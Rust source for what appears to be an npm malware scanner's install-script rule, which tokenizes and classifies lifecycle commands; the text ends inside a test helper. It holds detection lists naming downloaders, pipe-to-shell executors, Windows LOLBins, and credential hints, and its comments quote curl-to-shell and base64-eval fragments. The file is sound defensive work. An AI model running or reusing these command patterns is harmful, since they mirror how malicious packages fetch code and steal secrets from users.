//! `install-script`: every lifecycle script npm runs on install, shown with its command. Also
//! the shared reading of those commands (a small shell tokenizer and classifier) that the
//! `install-script-*` rules report on.

use palisade_core::{Capability, Confidence, Finding, Severity};

use super::{PackageFacts, PackageRule, RuleInfo};
use crate::facts::FileKind;

pub struct InstallScript;

static INFO: RuleInfo = RuleInfo {
    id: "install-script",
    severity: Severity::Low,
    confidence: Confidence::High,
    capabilities: &[Capability::InstallScript],
    summary: "The package runs a lifecycle script (preinstall, install, postinstall, prepare) when installed",
    docs: r#"## What it detects

Every `preinstall`, `install`, `postinstall` and `prepare` script in the tarball's
`package.json`, with its command. npm runs the first three on every install, with the
user's privileges and environment (tokens, SSH keys, cloud credentials); `prepare` runs
for git and local installs. This rule only lists them; the `install-script-download`,
`install-script-runs-file`, `install-script-inline-code` and `install-script-binary` rules
say what the command does.

## Real attacks

Most npm malware runs from an install script: the Shai-Hulud worm (`postinstall: node
bundle.js`, 2025), the second Shai-Hulud wave (`preinstall: node setup_bun.js`), the nx
"s1ngularity" compromise (`postinstall: node telemetry.js`), ua-parser-js 0.7.29
(`preinstall: start /B node preinstall.js` downloading a miner), the electorn typosquat,
and every dependency-confusion probe.

## Known false positives

Native add-ons (`node-gyp rebuild`, `prebuild-install`, `node-gyp-build`), git hooks
(`husky install`), `patch-package`, `tsc`, `opencollective` banners. These are reported
at low severity only.
"#,
};

/// Lifecycle events npm runs when a package is installed (`prepare`: git and local installs).
pub const LIFECYCLE_EVENTS: &[&str] = &["preinstall", "install", "postinstall", "prepare"];

/// Commands that are routine in install scripts and say nothing about intent.
const TRIVIAL: &[&str] = &[
    "node-gyp",
    "node-gyp-build",
    "node-pre-gyp",
    "prebuild-install",
    "prebuild",
    "cmake-js",
    "electron-rebuild",
    "husky",
    "patch-package",
    "tsc",
    "echo",
    "exit",
    "true",
    ":",
    "opencollective",
    "opencollective-postinstall",
    "is-ci",
    "npm",
    "yarn",
    "pnpm",
    "npx",
    "lerna",
    "ngcc",
    "prisma",
    "rimraf",
    "mkdirp",
    "shx",
    "cd",
    "printf",
    "test",
    "[",
];

const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash"];
const JS_RUNTIMES: &[&str] = &["node", "nodejs", "bun", "deno", "ts-node", "tsx"];
const SCRIPT_RUNTIMES: &[&str] = &["python", "python3", "perl", "ruby", "php"];
const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "certutil",
    "bitsadmin",
    "aria2c",
];
/// Commands that execute what is piped into them.
const PIPE_EXECUTORS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "node",
    "nodejs",
    "bun",
    "python",
    "python3",
    "perl",
    "ruby",
    "iex",
    "invoke-expression",
    "powershell",
    "pwsh",
    "cmd",
];
const WINDOWS_LOLBINS: &[&str] = &[
    "wscript", "cscript", "mshta", "rundll32", "regsvr32", "msiexec", "schtasks",
];
const NETWORK_HINTS: &[&str] = &[
    "http:",
    "https:",
    "require('http",
    "require(\"http",
    "require('net",
    "require(\"net",
    "require('dns",
    "require(\"dns",
    "fetch(",
    "websocket",
    "downloadstring",
    "net.webclient",
    "urllib",
];
const RISKY_CODE_HINTS: &[&str] = &[
    "child_process",
    "exec(",
    "execsync",
    "spawn",
    "eval(",
    "function(",
    "base64",
    "atob(",
    "fromcharcode",
    "process.env",
    "os.system",
    "subprocess",
    "homedir",
    ".npmrc",
];

/// What one piece of an install command does.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Action {
    /// Fetches something from the network.
    Download {
        /// The command's text.
        command: String,
        /// Piped into a shell or interpreter, or the downloaded file is run afterwards.
        executes: bool,
        /// Host data (`$(whoami)`, `$HOME`, env vars) interpolated into the request.
        sends_host_data: bool,
    },
    /// Code given inline (`node -e`, `sh -c`, `eval`, `python -c`, `base64 -d | sh`).
    InlineCode {
        interpreter: String,
        code: String,
        /// The code talks to the network.
        network: bool,
        /// The code spawns processes, evaluates, decodes or reads secrets.
        risky: bool,
    },
    /// Runs a file with an interpreter: `node install.js`, `sh setup.sh`.
    RunsFile {
        interpreter: String,
        /// Package-relative path of the file.
        path: String,
        /// Whether the package ships that file.
        present: bool,
    },
    /// Runs a shipped executable, a Windows living-off-the-land binary, or PowerShell with
    /// an encoded or hidden command.
    Binary {
        command: String,
        reason: String,
        /// Only malware does this from an install script (encoded or hidden PowerShell,
        /// `rundll32`/`mshta`/`regsvr32`).
        critical: bool,
    },
    /// Changes something that outlives the install: a shell start-up file, cron, git's
    /// global hooks, the package manager's registry.
    Persists {
        command: String,
        /// What it changes, as a clause ("points git's hooks for every repository at …").
        what: String,
        /// Certain on its own: a registry redirect, or a start-up entry that downloads or
        /// runs code.
        critical: bool,
    },
}

/// One lifecycle script and what it does.
#[derive(Debug, Clone)]
pub struct LifecycleScript {
    pub event: String,
    pub command: String,
    /// 1-based line of the script in package.json, when found.
    pub line: Option<u32>,
    pub actions: Vec<Action>,
}

/// The lifecycle scripts of the tarball's package.json, classified.
pub fn lifecycle_scripts(package: &PackageFacts<'_>) -> Vec<LifecycleScript> {
    let Some(scripts) = package
        .manifest
        .as_ref()
        .and_then(|m| m.get("scripts"))
        .and_then(|s| s.as_object())
    else {
        return Vec::new();
    };
    let manifest_text = package.contents.manifest_bytes().map(String::from_utf8_lossy);
    let mut out = Vec::new();
    for event in LIFECYCLE_EVENTS {
        let Some(command) = scripts.get(*event).and_then(|c| c.as_str()) else {
            continue;
        };
        if command.trim().is_empty() {
            continue;
        }
        let line = manifest_text.as_deref().and_then(|text| key_line(text, event));
        let mut actions = Vec::new();
        classify_command(command, package, 0, &mut actions);
        // `start /B node x.js & node x.js` runs the same file twice: one action.
        let mut unique: Vec<Action> = Vec::with_capacity(actions.len());
        for action in actions {
            if !unique.contains(&action) {
                unique.push(action);
            }
        }
        let actions = unique;
        out.push(LifecycleScript {
            event: (*event).to_string(),
            command: command.to_string(),
            line,
            actions,
        });
    }
    out
}

/// Files the lifecycle scripts run (`node install.js` → `install.js`), for scoring to
/// correlate with that file's own findings.
pub fn install_entry_files(package: &PackageFacts<'_>) -> Vec<String> {
    let mut files: Vec<String> = lifecycle_scripts(package)
        .into_iter()
        .flat_map(|s| {
            let inline = inline_js_name(&s.event);
            s.actions.into_iter().filter_map(move |a| match a {
                Action::RunsFile {
                    path, present: true, ..
                } => Some(path),
                Action::InlineCode { interpreter, .. } if JS_RUNTIMES.contains(&interpreter.as_str()) => {
                    Some(inline.clone())
                }
                _ => None,
            })
        })
        .collect();
    files.sort();
    files.dedup();
    files
}

/// The name under which the inline JavaScript of a lifecycle script (`node -e "…"`) is
/// analysed like a file of the package.
pub fn inline_js_name(event: &str) -> String {
    format!("package.json#{event}")
}

/// The inline JavaScript of the lifecycle scripts, as `(name, code)`: analysed with the
/// file rules, so `node -e "eval(Buffer.from('…','base64').toString())"` is read like a file.
pub fn inline_js(package: &PackageFacts<'_>) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = Vec::new();
    for script in lifecycle_scripts(package) {
        let name = inline_js_name(&script.event);
        for action in script.actions {
            if let Action::InlineCode { interpreter, code, .. } = action {
                if !JS_RUNTIMES.contains(&interpreter.as_str()) {
                    continue;
                }
                // Several inline pieces of one script are read as one file.
                match out.iter_mut().find(|(n, _)| *n == name) {
                    Some((_, text)) => {
                        text.push('\n');
                        text.push_str(&code);
                    }
                    None => out.push((name.clone(), code)),
                }
            }
        }
    }
    out
}

/// The 1-based line of `"key":` in a JSON text.
pub(crate) fn key_line(text: &str, key: &str) -> Option<u32> {
    let needle = format!("\"{key}\"");
    text.lines()
        .position(|line| {
            line.find(&needle)
                .is_some_and(|at| line[at + needle.len()..].trim_start().starts_with(':'))
        })
        .map(|index| index as u32 + 1)
}

impl PackageRule for InstallScript {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check(&self, package: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        for script in lifecycle_scripts(package) {
            let message = format!(
                "`{}` script runs `{}` when the package is installed",
                script.event, script.command
            );
            out.push(
                Finding::new(INFO.id, INFO.severity, INFO.confidence, message)
                    .at("package.json", script.line)
                    .with_evidence(format!("\"{}\": \"{}\"", script.event, script.command))
                    .with_capabilities(INFO.capabilities),
            );
        }
    }
}

/// A command split at `&&`, `||`, `;`, `&`, `|` and newlines (outside quotes).
#[derive(Debug, Default)]
struct Segment {
    words: Vec<String>,
    text: String,
    /// Its input is the previous segment's output (`a | b`).
    piped: bool,
}

fn split_segments(command: &str) -> Vec<Segment> {
    let mut segments = Vec::new();
    let mut current = Segment::default();
    let mut word = String::new();
    let mut in_word = false;
    let mut quote: Option<char> = None;
    let mut chars = command.chars().peekable();
    let push_word = |current: &mut Segment, word: &mut String, in_word: &mut bool| {
        if *in_word {
            current.words.push(std::mem::take(word));
            *in_word = false;
        }
    };
    while let Some(c) = chars.next() {
        if let Some(q) = quote {
            current.text.push(c);
            if c == q {
                quote = None;
            } else if c == '\\' && q == '"' && chars.peek().is_some_and(|n| matches!(n, '"' | '\\' | '$' | '`')) {
                if let Some(next) = chars.next() {
                    current.text.push(next);
                    word.push(next);
                }
            } else {
                word.push(c);
            }
            continue;
        }
        match c {
            '\'' | '"' => {
                quote = Some(c);
                in_word = true;
                current.text.push(c);
            }
            ' ' | '\t' => {
                push_word(&mut current, &mut word, &mut in_word);
                current.text.push(c);
            }
            '&' | '|' | ';' | '\n' | '\r' => {
                push_word(&mut current, &mut word, &mut in_word);
                let doubled = (c == '&' || c == '|') && chars.peek() == Some(&c);
                if doubled {
                    chars.next();
                }
                let next_piped = c == '|' && !doubled;
                let done = std::mem::take(&mut current);
                if !done.words.is_empty() {
                    segments.push(done);
                }
                current.piped = next_piped;
            }
            _ => {
                word.push(c);
                in_word = true;
                current.text.push(c);
            }
        }
    }
    push_word(&mut current, &mut word, &mut in_word);
    if !current.words.is_empty() {
        segments.push(current);
    }
    for segment in &mut segments {
        segment.text = segment.text.trim().to_string();
    }
    segments
}

fn is_assignment(word: &str) -> bool {
    let Some((name, _)) = word.split_once('=') else {
        return false;
    };
    !name.is_empty()
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        && !name.starts_with(|c: char| c.is_ascii_digit())
}

/// The command name: lower-case, without directory or `.exe`.
fn command_name(word: &str) -> String {
    let base = word.rsplit(['/', '\\']).next().unwrap_or(word).to_ascii_lowercase();
    base.strip_suffix(".exe").map(str::to_string).unwrap_or(base)
}

/// A package-relative path for a word naming a file, relative to `cwd`.
fn normalize_path(cwd: &str, word: &str) -> Option<String> {
    let word = word.replace('\\', "/");
    if word.starts_with('/') || word.contains("://") || word.starts_with('$') || word.starts_with('%') {
        return None;
    }
    let mut parts: Vec<&str> = cwd.split('/').filter(|p| !p.is_empty() && *p != ".").collect();
    for part in word.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop()?;
            }
            other => parts.push(other),
        }
    }
    (!parts.is_empty()).then(|| parts.join("/"))
}

/// Commands that resolve a name (and so send it to whoever serves its domain).
const DNS_TOOLS: &[&str] = &["nslookup", "dig", "host", "drill", "ping", "ping6", "resolve-dnsname"];

fn contains_any(haystack: &str, needles: &[&str]) -> bool {
    let lower = haystack.to_ascii_lowercase();
    needles.iter().any(|n| lower.contains(n))
}

fn interpolates_host_data(text: &str) -> bool {
    text.contains("$(")
        || text.contains('`')
        || text.contains("${")
        || text
            .split('$')
            .skip(1)
            .any(|rest| rest.starts_with(|c: char| c.is_ascii_uppercase()))
        || text
            .split('%')
            .nth(1)
            .is_some_and(|v| !v.is_empty() && v.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
        || contains_any(
            text,
            &[
                "whoami",
                "hostname",
                "/etc/passwd",
                "--data",
                " -d @",
                "-d \"$",
                "--upload-file",
            ],
        )
}

fn lookup_kind(package: &PackageFacts<'_>, path: &str) -> Option<FileKind> {
    package.files.iter().find(|f| f.path == path).map(|f| f.kind)
}

/// Classifies a whole command line; `depth` bounds `sh -c "…"` recursion.
fn classify_command(command: &str, package: &PackageFacts<'_>, depth: usize, out: &mut Vec<Action>) {
    if depth > 3 {
        return;
    }
    let segments = split_segments(command);
    let first_action = out.len();
    let mut cwd = String::new();
    // Files a download wrote, to recognise "downloaded, then run".
    let mut downloaded: Vec<String> = Vec::new();
    for (index, segment) in segments.iter().enumerate() {
        let next_piped_into = segments.get(index + 1).filter(|s| s.piped).map(|s| {
            let words = strip_prefixes(&s.words);
            words.first().map(|w| command_name(w)).unwrap_or_default()
        });
        let words = strip_prefixes(&segment.words);
        let Some(first) = words.first() else { continue };
        let name = command_name(first);
        let args = &words[1..];
        let piped_to_executor = next_piped_into.as_deref().is_some_and(|n| PIPE_EXECUTORS.contains(&n));

        if name == "cd" {
            if let Some(dir) = args.first().and_then(|d| normalize_path(&cwd, d)) {
                cwd = dir;
            }
            continue;
        }
        // `sh -c "$(curl -fsSL …)"`, `node -e "$(wget -qO- …)"`, `eval `curl …``: the
        // downloaded text is the program.
        let executes_anything = PIPE_EXECUTORS.contains(&name.as_str())
            || JS_RUNTIMES.contains(&name.as_str())
            || SCRIPT_RUNTIMES.contains(&name.as_str())
            || name == "eval";
        if executes_anything && substitutes_download(&segment.text) {
            out.push(Action::Download {
                command: segment.text.clone(),
                executes: true,
                sends_host_data: interpolates_host_data(&segment.text),
            });
            continue;
        }
        if DOWNLOADERS.contains(&name.as_str()) {
            if name == "certutil" && !contains_any(&segment.text, &["urlcache", "-split"]) {
                continue;
            }
            let output = output_file(&name, args);
            if let Some(path) = output.as_deref().and_then(|o| normalize_path(&cwd, o)) {
                downloaded.push(path);
            }
            let executes = piped_to_executor || output.is_some_and(|o| later_runs(&segments[index + 1..], &o, &cwd));
            out.push(Action::Download {
                command: segment.text.clone(),
                executes,
                sends_host_data: interpolates_host_data(&segment.text),
            });
            continue;
        }
        if name == "base64" && args.iter().any(|a| a == "-d" || a == "--decode" || a == "-D") && piped_to_executor {
            let interpreter = next_piped_into.unwrap_or_default();
            out.push(Action::InlineCode {
                interpreter,
                code: segment.text.clone(),
                network: false,
                risky: true,
            });
            continue;
        }
        if segment.piped && PIPE_EXECUTORS.contains(&name.as_str()) && args.iter().all(|a| a.starts_with('-')) {
            // The executing end of `… | sh`: reported with what feeds it.
            if index > 0 && !matches!(out.last(), Some(Action::Download { .. } | Action::InlineCode { .. })) {
                let feeder = &segments[index - 1].text;
                out.push(Action::InlineCode {
                    interpreter: name.clone(),
                    code: feeder.clone(),
                    network: contains_any(feeder, NETWORK_HINTS),
                    risky: true,
                });
            }
            continue;
        }
        // A DNS lookup of a name built from host data is a ping-back over DNS: the name's
        // labels carry the data to the attacker's name server.
        if DNS_TOOLS.contains(&name.as_str()) && interpolates_host_data(&segment.text) {
            out.push(Action::Download {
                command: segment.text.clone(),
                executes: false,
                sends_host_data: true,
            });
            continue;
        }
        if let Some(action) = package_install(&name, args, &segment.text) {
            out.push(action);
            continue;
        }
        // Also classified for what it runs (`node x.js >> ~/.bashrc`).
        if let Some(action) = persists(&name, args, &segment.text) {
            out.push(action);
        }
        if name == "powershell" || name == "pwsh" {
            classify_powershell(segment, args, package, &cwd, out);
            continue;
        }
        if JS_RUNTIMES.contains(&name.as_str()) || SCRIPT_RUNTIMES.contains(&name.as_str()) {
            classify_interpreter(&name, args, package, &cwd, out);
            continue;
        }
        if SHELLS.contains(&name.as_str()) || name == "cmd" || name == "eval" {
            let inline = if name == "eval" {
                Some(args.join(" "))
            } else if name == "cmd" {
                args.iter()
                    .position(|a| a.eq_ignore_ascii_case("/c") || a.eq_ignore_ascii_case("/k"))
                    .map(|at| args[at + 1..].join(" "))
            } else {
                args.iter()
                    .position(|a| a == "-c")
                    .and_then(|at| args.get(at + 1))
                    .cloned()
            };
            if let Some(code) = inline {
                let before = out.len();
                classify_command(&code, package, depth + 1, out);
                if out.len() == before && name != "cmd" {
                    let network = contains_any(&code, NETWORK_HINTS);
                    let risky = contains_any(&code, RISKY_CODE_HINTS);
                    out.push(Action::InlineCode {
                        interpreter: name.clone(),
                        code,
                        network,
                        risky,
                    });
                }
            } else if let Some(file) = args.iter().find(|a| !a.starts_with('-')) {
                if let Some(path) = normalize_path(&cwd, file) {
                    let present = lookup_kind(package, &path).is_some();
                    out.push(Action::RunsFile {
                        interpreter: name.clone(),
                        path,
                        present,
                    });
                }
            }
            continue;
        }
        if name == "start" {
            let rest: Vec<&String> = args.iter().filter(|a| !a.starts_with('/')).collect();
            if !rest.is_empty() {
                let inner = rest.iter().map(|s| s.as_str()).collect::<Vec<_>>().join(" ");
                classify_command(&inner, package, depth + 1, out);
            }
            continue;
        }
        if WINDOWS_LOLBINS.contains(&name.as_str()) {
            out.push(Action::Binary {
                command: segment.text.clone(),
                reason: format!("`{name}` runs scripts or libraries outside Node.js"),
                critical: matches!(name.as_str(), "rundll32" | "mshta" | "regsvr32"),
            });
            continue;
        }
        if TRIVIAL.contains(&name.as_str()) || name == "chmod" {
            continue;
        }
        // A path as the command: a shipped executable or script, or something downloaded.
        let looks_like_path =
            first.contains('/') || first.contains('\\') || first.ends_with(".exe") || first.ends_with(".sh");
        let Some(path) = normalize_path(&cwd, first) else {
            continue;
        };
        if path.starts_with("node_modules/") {
            continue;
        }
        match lookup_kind(package, &path) {
            Some(FileKind::NativeExecutable) => out.push(Action::Binary {
                command: segment.text.clone(),
                critical: false,
                reason: format!("runs the native executable `{path}` shipped in the package"),
            }),
            Some(FileKind::Binary) => out.push(Action::Binary {
                command: segment.text.clone(),
                critical: false,
                reason: format!("runs the binary file `{path}` shipped in the package"),
            }),
            Some(_) => out.push(Action::RunsFile {
                interpreter: "shell".into(),
                path,
                present: true,
            }),
            None if downloaded.contains(&path) => {}
            None if looks_like_path && first.ends_with(".exe") => out.push(Action::Binary {
                command: segment.text.clone(),
                critical: false,
                reason: format!("runs the executable `{first}`"),
            }),
            None => {}
        }
    }
    // Running what was just downloaded is part of the download, not a file of the package.
    let mut position = 0;
    out.retain(|action| {
        let keep = position < first_action
            || !matches!(action, Action::RunsFile { path, present: false, .. } if downloaded.contains(path));
        position += 1;
        keep
    });
}

/// `npm install -g x`, `npm i https://host/x.tgz`, `yarn global add x`, `pnpm add git+…`
/// run from a lifecycle script: packages installed behind the user's back, with their own
/// install scripts. A tarball or repository on an unfamiliar server is a download that runs
/// (its scripts execute); one on a code host is a plain download; a global install of a
/// registry package puts its commands on `PATH` for good.
fn package_install(name: &str, args: &[String], text: &str) -> Option<Action> {
    let rest: &[String] = match name {
        "npm" | "pnpm" | "bun" => {
            let verb = args.iter().position(|a| !a.starts_with('-'))?;
            if !matches!(args[verb].as_str(), "install" | "i" | "add" | "isntall" | "in") {
                return None;
            }
            &args[verb + 1..]
        }
        "yarn" => {
            let verb = args.iter().position(|a| !a.starts_with('-'))?;
            match args[verb].as_str() {
                "add" => &args[verb + 1..],
                "global" if args.get(verb + 1).is_some_and(|a| a == "add") => &args[verb + 2..],
                _ => return None,
            }
        }
        _ => return None,
    };
    let global = name == "yarn" && text.contains(" global ")
        || args
            .iter()
            .any(|a| matches!(a.as_str(), "-g" | "--global" | "--location=global"));
    let specs: Vec<&str> = rest
        .iter()
        .map(String::as_str)
        .filter(|a| !a.starts_with('-'))
        .take(32)
        .collect();
    if let Some(unfamiliar) = specs
        .iter()
        .filter_map(|s| super::remote_dependency::remote_spec(s))
        .max()
    {
        return Some(Action::Download {
            command: text.to_string(),
            executes: unfamiliar,
            sends_host_data: interpolates_host_data(text),
        });
    }
    if global && !specs.is_empty() {
        return Some(Action::Persists {
            command: text.to_string(),
            what: format!(
                "installs {} globally: its commands go on PATH for every later shell",
                specs.iter().map(|s| format!("`{s}`")).collect::<Vec<_>>().join(", ")
            ),
            critical: false,
        });
    }
    None
}

/// A command that changes what runs later, outside the package: git's global hook or
/// template folder, the package manager's default registry, a write into a shell start-up
/// file, cron, systemd, launchd or SSH keys.
fn persists(name: &str, args: &[String], text: &str) -> Option<Action> {
    let lower_args: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
    let has = |word: &str| lower_args.iter().any(|a| a == word);
    if name == "git" && has("config") && (has("--global") || has("--system")) {
        let at = lower_args
            .iter()
            .position(|a| matches!(a.as_str(), "core.hookspath" | "init.templatedir"))?;
        let key = &args[at];
        let scope = if has("--system") {
            "every user's repositories"
        } else {
            "every repository of the user"
        };
        return Some(Action::Persists {
            command: text.to_string(),
            what: format!("sets git's `{key}` for {scope}: hooks the package chose run on every commit or clone"),
            critical: false,
        });
    }
    if matches!(name, "npm" | "yarn" | "pnpm" | "bun") {
        let host = super::sinks::registry_redirect(text)?;
        return Some(Action::Persists {
            command: text.to_string(),
            what: format!("points the package manager at another registry ({host}): later installs come from there"),
            critical: true,
        });
    }
    let lower = text.to_ascii_lowercase();
    let writes = lower.contains('>') || matches!(name, "tee" | "cp" | "mv" | "crontab" | "systemctl" | "launchctl");
    if !writes {
        return None;
    }
    let (label, severity) = super::persistence::location_in(&lower)
        .or_else(|| (name == "crontab" && !has("-l")).then_some(("cron", Severity::High)))?;
    if severity < Severity::High {
        return None;
    }
    let payload = super::persistence::payload_in(&lower);
    let what = match payload {
        Some(payload) => format!("writes {label} with `{}` in it", payload.trim()),
        None => format!("writes {label}"),
    };
    Some(Action::Persists {
        command: text.to_string(),
        what,
        critical: payload.is_some() || severity == Severity::Critical,
    })
}

/// Whether a command substitution (`$(…)` or backticks) starts with a downloader.
fn substitutes_download(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    ["$(", "`"].iter().any(|open| {
        lower.match_indices(open).any(|(at, _)| {
            let inner = lower[at + open.len()..].trim_start();
            DOWNLOADERS
                .iter()
                .any(|d| inner.starts_with(d) && inner[d.len()..].starts_with([' ', '\t']))
        })
    })
}

/// Leading `VAR=value`, `cross-env`, `env`, `sudo`, `nohup`, `exec`, `time` are not the command.
fn strip_prefixes(words: &[String]) -> &[String] {
    let mut at = 0;
    while let Some(word) = words.get(at) {
        let name = command_name(word);
        if is_assignment(word)
            || matches!(
                name.as_str(),
                "cross-env" | "env" | "sudo" | "nohup" | "exec" | "time" | "command"
            )
        {
            at += 1;
        } else {
            break;
        }
    }
    &words[at..]
}

/// Where a downloader writes: `curl -o F`, `wget -O F`, `… > F`, `-OutFile F`.
fn output_file(name: &str, args: &[String]) -> Option<String> {
    let mut iter = args.iter();
    while let Some(arg) = iter.next() {
        let lower = arg.to_ascii_lowercase();
        if lower == ">"
            || lower == "-outfile"
            || lower == "--output"
            || lower == "-output-document"
            || (lower == "-o" && name == "curl")
            || (arg == "-O" && name == "wget")
        {
            return iter.next().cloned();
        }
        if let Some(rest) = arg.strip_prefix('>') {
            if !rest.is_empty() {
                return Some(rest.to_string());
            }
        }
    }
    // wget without -O keeps the URL's file name.
    if name == "wget" {
        let url = args.iter().find(|a| a.contains("://"))?;
        let file = url.split(['?', '#']).next()?.rsplit('/').next()?;
        return (!file.is_empty()).then(|| file.to_string());
    }
    None
}

/// Whether a later segment runs the file a download wrote (`output` as written in the
/// command), directly or with an interpreter.
fn later_runs(segments: &[Segment], output: &str, cwd: &str) -> bool {
    let path = normalize_path(cwd, output);
    segments.iter().any(|segment| {
        let words = strip_prefixes(&segment.words);
        let Some(first) = words.first() else { return false };
        let name = command_name(first);
        let names_path = |w: &String| w == output || (path.is_some() && normalize_path(cwd, w) == path);
        if name == "chmod" {
            return false;
        }
        names_path(first)
            || ((SHELLS.contains(&name.as_str())
                || JS_RUNTIMES.contains(&name.as_str())
                || SCRIPT_RUNTIMES.contains(&name.as_str())
                || name == "start"
                || name == "powershell"
                || name == "pwsh")
                && words[1..].iter().any(names_path))
    })
}

fn classify_interpreter(name: &str, args: &[String], package: &PackageFacts<'_>, cwd: &str, out: &mut Vec<Action>) {
    let inline_flags: &[&str] = if JS_RUNTIMES.contains(&name) {
        &["-e", "--eval", "-p", "--print", "eval"]
    } else {
        &["-c", "-e", "-r"]
    };
    let options_with_value = [
        "-r",
        "--require",
        "--import",
        "--loader",
        "--experimental-loader",
        "-C",
        "--conditions",
        "--env-file",
    ];
    let mut iter = args.iter().enumerate();
    while let Some((at, arg)) = iter.next() {
        if inline_flags.contains(&arg.as_str()) || (name == "deno" && arg == "eval") {
            let code = args.get(at + 1).cloned().unwrap_or_default();
            let network = contains_any(&code, NETWORK_HINTS);
            let risky = contains_any(&code, RISKY_CODE_HINTS);
            // `node -e "try{require('./postinstall')}catch(e){}"` (core-js and others) runs a file.
            if let (false, false, Some(required)) = (network, risky, relative_require(&code)) {
                if let Some(path) = normalize_path(cwd, &required) {
                    let (path, present) = resolve_script(package, &path);
                    out.push(Action::RunsFile {
                        interpreter: name.to_string(),
                        path,
                        present,
                    });
                    return;
                }
            }
            out.push(Action::InlineCode {
                interpreter: name.to_string(),
                code,
                network,
                risky,
            });
            return;
        }
        if let Some((flag, value)) = arg.split_once('=') {
            if ["--eval", "--print"].contains(&flag) {
                let network = contains_any(value, NETWORK_HINTS);
                let risky = contains_any(value, RISKY_CODE_HINTS);
                out.push(Action::InlineCode {
                    interpreter: name.to_string(),
                    code: value.to_string(),
                    network,
                    risky,
                });
                return;
            }
        }
        if options_with_value.contains(&arg.as_str()) {
            iter.next();
            continue;
        }
        if arg.starts_with('-') || (name == "deno" && arg == "run") || (name == "bun" && arg == "run") {
            continue;
        }
        if arg.contains("://") {
            out.push(Action::Download {
                command: format!("{name} {}", args.join(" ")),
                executes: true,
                sends_host_data: false,
            });
            return;
        }
        if let Some(path) = normalize_path(cwd, arg) {
            let (path, present) = resolve_script(package, &path);
            out.push(Action::RunsFile {
                interpreter: name.to_string(),
                path,
                present,
            });
        }
        return;
    }
}

/// The first `require('./x')` / `import('./x')` of a relative path in inline code.
fn relative_require(code: &str) -> Option<String> {
    for call in ["require(", "import("] {
        let Some(at) = code.find(call) else { continue };
        let rest = code[at + call.len()..].trim_start();
        let quote = rest.chars().next().filter(|c| matches!(c, '\'' | '"' | '`'))?;
        let inner = &rest[1..];
        let end = inner.find(quote)?;
        let target = &inner[..end];
        if target.starts_with("./") || target.starts_with("../") {
            return Some(target.to_string());
        }
    }
    None
}

/// `node install` means `install.js` (or `install/index.js`), as Node resolves it.
fn resolve_script(package: &PackageFacts<'_>, path: &str) -> (String, bool) {
    for candidate in [
        path.to_string(),
        format!("{path}.js"),
        format!("{path}.cjs"),
        format!("{path}.mjs"),
        format!("{path}/index.js"),
    ] {
        if lookup_kind(package, &candidate).is_some() {
            return (candidate, true);
        }
    }
    (path.to_string(), false)
}

fn classify_powershell(
    segment: &Segment,
    args: &[String],
    package: &PackageFacts<'_>,
    cwd: &str,
    out: &mut Vec<Action>,
) {
    let lower: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
    if lower
        .iter()
        .any(|a| ["-enc", "-e", "-ec", "-encodedcommand", "-en", "-enco"].contains(&a.as_str()))
    {
        out.push(Action::Binary {
            command: segment.text.clone(),
            reason: "PowerShell with a base64-encoded command".into(),
            critical: true,
        });
        return;
    }
    if let Some(at) = lower.iter().position(|a| a == "-file" || a == "-f") {
        if let Some(path) = args.get(at + 1).and_then(|f| normalize_path(cwd, f)) {
            let present = lookup_kind(package, &path).is_some();
            out.push(Action::RunsFile {
                interpreter: "powershell".into(),
                path,
                present,
            });
        }
        return;
    }
    if contains_any(
        &segment.text,
        &[
            "downloadstring",
            "downloadfile",
            "invoke-webrequest",
            "iwr ",
            "irm ",
            "net.webclient",
            "invoke-restmethod",
            "start-bitstransfer",
        ],
    ) {
        let executes = contains_any(&segment.text, &["iex", "invoke-expression", "start-process", "&"]);
        out.push(Action::Download {
            command: segment.text.clone(),
            executes,
            sends_host_data: interpolates_host_data(&segment.text),
        });
        return;
    }
    if lower.iter().any(|a| a == "hidden") {
        out.push(Action::Binary {
            command: segment.text.clone(),
            reason: "PowerShell in a hidden window".into(),
            critical: true,
        });
        return;
    }
    let code = args
        .iter()
        .filter(|a| !a.starts_with('-'))
        .cloned()
        .collect::<Vec<_>>()
        .join(" ");
    if !code.is_empty() {
        let network = contains_any(&code, NETWORK_HINTS);
        let risky = contains_any(&code, RISKY_CODE_HINTS);
        out.push(Action::InlineCode {
            interpreter: "powershell".into(),
            code,
            network,
            risky,
        });
    }
}

#[cfg(test)]
pub(crate) mod testing {
    use palisade_tarball::{ExtractIssue, PackageContents, PackageFile};

    use crate::rules::{package_facts, PackageRule};
    use crate::ScanOptions;
    use palisade_core::Finding;

    pub fn contents(files: &[(&str, &[u8])], issues: Vec<ExtractIssue>) -> PackageContents {
        PackageContents {
            origin: "test".into(),
            files: files
                .iter()
                .map(|(path, data)| PackageFile {
                    path: (*path).into(),
                    data: data.to_vec(),
                    mode: 0o644,
                })
                .collect(),
            issues,
            compressed_bytes: 0,
            unpacked_bytes: 0,
        }
    }

    /// Runs one package rule over files, with a registry manifest when given.
    pub fn run_with(rule: &dyn PackageRule, files: &[(&str, &[u8])], options: &ScanOptions) -> Vec<Finding> {
        let contents = contents(files, Vec::new());
        let package = package_facts(&contents, options);
        let mut out = Vec::new();
        rule.check(&package, &mut out);
        for finding in &out {
            assert_eq!(finding.rule, rule.info().id);
        }
        out
    }

    pub fn run(rule: &dyn PackageRule, files: &[(&str, &[u8])]) -> Vec<Finding> {
        run_with(rule, files, &ScanOptions::default())
    }

    /// A package.json with these scripts.
    pub fn manifest_with_scripts(scripts: &[(&str, &str)]) -> Vec<u8> {
        let scripts: serde_json::Map<String, serde_json::Value> = scripts
            .iter()
            .map(|(k, v)| ((*k).to_string(), serde_json::Value::String((*v).to_string())))
            .collect();
        let manifest = serde_json::json!({"name": "pkg", "version": "1.0.0", "scripts": scripts});
